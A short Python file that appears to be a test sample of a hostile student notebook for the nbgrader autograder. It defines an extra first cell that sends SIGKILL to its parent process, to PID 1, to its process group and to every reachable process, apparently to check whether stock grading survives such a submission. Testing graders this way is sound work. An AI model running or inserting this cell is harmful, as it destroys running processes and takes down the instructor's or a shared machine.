"""Kills every process it can name: its parent, its group, everyone.

Stock nbgrader: all the instructor runs.
"""

CELLS = {
    "extra first cell": """
import os
import signal

for victim in (os.getppid(), 1, -os.getpgrp(), 0, -1):
    try:
        os.kill(victim, signal.SIGKILL)
    except OSError as error:
        print(victim, error)
"""
}
